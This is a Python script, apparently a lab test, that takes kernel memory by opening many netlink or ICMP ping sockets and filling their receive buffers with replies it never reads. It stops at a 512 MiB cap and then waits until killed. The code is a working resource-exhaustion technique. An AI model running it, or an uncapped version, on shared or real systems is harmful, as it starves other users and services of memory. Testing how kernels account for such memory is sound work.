"""Takes the server's memory by answers that it doesn't read: a program that runs in a lab.

    python3 unread.py KIND

goes on until somebody ends it. Standard library only: it runs with the lab's own Python.
"""

from __future__ import annotations

import contextlib
import resource
import signal
import socket
import struct
import sys
from pathlib import Path

MOST_BYTES = 512 << 20  # of one that is never ended: the machine of a test is somebody's
ROOM = 1 << 20
# struct icmphdr of an echo request; struct nlmsghdr and rtmsg that ask for all the rules.
ECHO = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + bytes(50_000)
RULES = struct.pack("=IHHIIBBBBBBBBI", 28, 34, 0x301, 1, 0, socket.AF_INET, *(0,) * 7, 0)


def netlink() -> socket.socket:
    """A socket whose first read was large, so each answer takes as much."""
    asking = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    asking.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, ROOM)
    asking.send(RULES)
    asking.recv(32768)
    return asking


def ping() -> socket.socket:
    """One that asks itself."""
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)


def fill(asking: socket.socket) -> int:
    """Ask until it is full; how much it may hold."""
    asking.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, ROOM)
    for _ in range(60):
        with contextlib.suppress(OSError):
            if asking.family == socket.AF_NETLINK:
                asking.send(RULES, socket.MSG_DONTWAIT)
            else:
                asking.sendto(ECHO, ("127.0.0.1", 0))
    return asking.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)


def main(kind: str) -> None:
    """Take as much as one gets."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held: list[socket.socket] = []
    taken = 0
    while taken < MOST_BYTES:
        held.append({"netlink": netlink, "ping": ping}[kind]())
        taken += fill(held[-1])
    Path("/tmp/taken").write_text(str(taken))
    signal.pause()


if __name__ == "__main__":
    main(sys.argv[1])
